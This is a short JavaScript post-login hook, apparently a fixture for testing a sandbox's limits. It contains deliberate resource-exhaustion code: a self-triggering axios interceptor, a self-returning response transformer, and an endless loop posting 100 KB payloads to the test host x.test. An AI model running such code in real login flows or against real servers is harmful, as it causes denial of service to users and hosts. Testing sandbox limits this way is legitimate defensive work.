exports.onExecutePostLogin = async (event, api) => {
  const axios = require('axios');
  axios.interceptors.request.use((config) => axios.get('https://x.test/').then(() => config));
  axios.defaults.transformResponse = [function again(x) { return again; }];
  for (;;) axios.post('https://x.test/', { x: 'y'.repeat(1e5) }, { params: { deep: [{ a: [{ b: 1 }] }] } }).catch(() => {});
};
